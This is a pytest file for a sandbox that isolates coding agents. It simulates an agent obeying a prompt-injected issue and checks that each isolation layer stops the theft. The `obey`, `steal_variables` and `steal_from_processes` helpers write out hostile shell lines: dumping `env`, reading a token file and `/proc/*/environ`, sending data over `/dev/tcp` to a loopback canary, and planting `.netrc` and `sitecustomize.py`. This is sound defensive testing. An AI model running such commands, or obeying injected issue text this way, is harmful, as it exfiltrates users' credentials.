"""Prompt injection that an agent obeys, theft of tokens, and code of the repository itself."""

import asyncio
import os
from collections.abc import AsyncGenerator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.contracts.conftest import LIMITS, make_archive
from tests.support.scripted_agent import FINISH, Stage
from tests.threats.conftest import Rebuild, Spawn
from yudai.kit.errors import SandboxError
from yudai.sandboxes.backends.bubblewrap import backend as bubblewrap
from yudai.sandboxes.backends.bubblewrap import mounts
from yudai.sandboxes.backends.bubblewrap.backend import BubblewrapBackend
from yudai.sandboxes.backends.bubblewrap.create import Layout
from yudai.sandboxes.backends.bubblewrap.mounts import Identity
from yudai.sandboxes.backends.local.base_build import TREE
from yudai.sandboxes.port import BaseSpec, Sandbox

SECRET = "ghs_hostCanary7Qw2Er5Ty8Ui1Op4As6Df9Gh"  # noqa: S105 - it was never one


@dataclass
class Canary:
    """A server of the host's loopback: whoever reaches it is heard."""

    port: int = 0
    heard: list[bytes] = field(default_factory=list[bytes])
    called: asyncio.Event = field(default_factory=asyncio.Event)


@asynccontextmanager
async def listening() -> AsyncGenerator[Canary]:
    canary = Canary()

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        canary.heard.append(await reader.read())
        canary.called.set()
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    canary.port = server.sockets[0].getsockname()[1]
    async with server:
        yield canary


class Loot(set[str]):
    """By name what an agent that did as an issue told it has got out."""


async def obey(sandbox: Sandbox, tmp_path: Path, victim: Path) -> Loot:
    """The issue says: print what you know, tell it to a server, leave a file in the home."""
    async with listening() as canary:
        orders = (
            f"env; cat {victim}/token",
            f"exec 3<>/dev/tcp/127.0.0.1/{canary.port} && echo stolen >&3 && echo REACHED",
            f"echo evil > {victim}/.netrc; echo evil > ~/.netrc",
        )
        stage = Stage(tmp_path / "stage")
        script = stage.script([{"run": list(orders)}, {"run": [FINISH]}])
        outcome = await stage.run(script, sandbox)
        assert outcome.exit_status == "Submitted"
        if any("REACHED\n" in seen["output"] for seen in stage.told.observations):
            await canary.called.wait()
    loot = Loot()
    if canary.heard:
        loot.add("network")
    if SECRET in str([message.body for message in stage.told.messages]):
        loot.add("secret")
    if (victim / ".netrc").exists():
        loot.add("home")
    return loot


@pytest.fixture
def victim(open_folder: Path) -> Path:
    """A person's home, with a token in it, which only file modes would not protect."""
    (open_folder / "token").write_text(SECRET)
    open_folder.chmod(0o777)
    return open_folder


async def test_an_agent_that_obeys_the_issue_gets_nothing_out(
    spawn: Spawn, tmp_path: Path, victim: Path
):
    async with spawn() as sandbox:
        assert await obey(sandbox, tmp_path, victim) == set()


@pytest.mark.parametrize("defence", ["network", "home", "secret"])
async def test_without_that_wall_it_does(
    spawn: Spawn, tmp_path: Path, victim: Path, rebuild: Rebuild, defence: str
):
    before = {
        "network": lambda argv: [word for word in argv if word != "--unshare-net"],
        "secret": lambda argv: _bound(argv, "--ro-bind", victim),
        "home": lambda argv: _bound(argv, "--bind", victim),
    }
    rebuild(before[defence])
    got = {"network": {"network"}, "secret": {"secret"}, "home": {"secret", "home"}}
    async with spawn() as sandbox:
        assert await obey(sandbox, tmp_path, victim) == got[defence]


def _bound(argv: list[str], how: str, folder: Path) -> list[str]:
    """As if a folder of the host were among what a sandbox is shown."""
    at = argv.index("--as-pid-1")
    return [*argv[:at], how, str(folder), str(folder), *argv[at:]]


async def steal_variables(sandbox: Sandbox) -> bool:
    """What the repository's own code finds of the variables that our process has."""
    found = await sandbox.exec("env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")
    return SECRET in found.text


@pytest.fixture
def secret_variable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)


def _keep_environment(argv: list[str]) -> list[str]:
    return [word for word in argv if word != "--clearenv"]


def _inherit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Bubblewrap is started with our environment instead of an empty one."""
    real = os.posix_spawn

    def inheriting(path: str, argv: list[str], _: Mapping[str, str], **options: Any) -> int:
        assert Path(path).name.startswith("bwrap")
        return real(path, argv, dict(os.environ), **options)

    monkeypatch.setattr(os, "posix_spawn", inheriting)


@pytest.mark.usefixtures("secret_variable")
@pytest.mark.parametrize("left", ["both", "cleared by bubblewrap", "never given to it"])
async def test_no_variable_of_ours_is_in_a_sandbox_and_each_of_two_defences_suffices(
    spawn: Spawn, rebuild: Rebuild, monkeypatch: pytest.MonkeyPatch, left: str
):
    if left == "cleared by bubblewrap":
        _inherit(monkeypatch)
    if left == "never given to it":
        rebuild(_keep_environment)
    async with spawn() as sandbox:
        assert not await steal_variables(sandbox)


@pytest.mark.usefixtures("secret_variable")
async def test_without_both_our_variables_are_stolen(
    spawn: Spawn, rebuild: Rebuild, monkeypatch: pytest.MonkeyPatch
):
    _inherit(monkeypatch)
    rebuild(_keep_environment)
    async with spawn() as sandbox:
        assert await steal_variables(sandbox)


async def steal_from_processes(sandbox: Sandbox) -> bool:
    """The variables of another program of the same machine."""
    sleeper = await asyncio.create_subprocess_exec("sleep", "1000", env={"TOKEN": SECRET})
    try:
        found = await sandbox.exec("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")
    finally:
        sleeper.kill()
        await sleeper.wait()
    return SECRET in found.text


async def test_variables_of_other_programs_are_kept(spawn: Spawn):
    async with spawn() as sandbox:
        assert not await steal_from_processes(sandbox)


async def test_by_the_backend_without_walls_they_are_not(spawn: Spawn):
    async with spawn("process") as sandbox:
        assert await steal_from_processes(sandbox)


async def poison(home: Path) -> str:
    """One run's code changes the workspace; what the next run of the same base finds there."""
    backend = BubblewrapBackend(home / "home", limits=LIMITS)
    try:
        source = make_archive(home / "source.tar", {"app.py": b"x = 1\n"})
        base = await backend.prepare(BaseSpec(key="poisoned", source=source))
        for command in ("echo 'x = 666' > app.py; echo evil > sitecustomize.py", "cat *.py"):
            [sandbox] = await backend.spawn(base, 1, owner="threat")
            assert not isinstance(sandbox, SandboxError), sandbox
            said = await sandbox.exec(command)
            await sandbox.destroy()
        return said.text
    finally:
        await backend.close()


async def test_a_run_leaves_nothing_to_the_next_one(tmp_path: Path):
    assert await poison(tmp_path) == "x = 1\n"


async def test_without_an_overlay_of_its_own_it_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    async def shared(base: Path, identity: Identity, folder: Path) -> Layout:
        del identity, folder
        return Layout(mounts.writable(base / TREE), base / TREE)

    monkeypatch.setattr(bubblewrap, "_lay_over", shared)
    monkeypatch.setattr(bubblewrap, "_lay_out_copy", shared)
    assert await poison(tmp_path) == "x = 666\nevil\n"


async def exhaust(sandbox: Sandbox, *, max_output: int, timeout_s: float) -> tuple[int, bool]:
    """Print without end: how much of it was kept, and whether it was ended."""
    said = await sandbox.exec("yes | head -c 3000000", max_output=max_output, timeout_s=timeout_s)
    slow = await sandbox.exec("sleep 1.5; echo done", timeout_s=timeout_s)
    return len(said.output), "done" not in slow.text


async def test_output_and_time_are_limited_by_us(spawn: Spawn):
    async with spawn() as sandbox:
        kept, is_ended = await exhaust(sandbox, max_output=10_000, timeout_s=1.0)
        assert kept <= 20_000
        assert is_ended


async def test_without_the_limits_they_are_not(spawn: Spawn):
    async with spawn() as sandbox:
        assert await exhaust(sandbox, max_output=10_000_000, timeout_s=60) == (3_000_000, False)
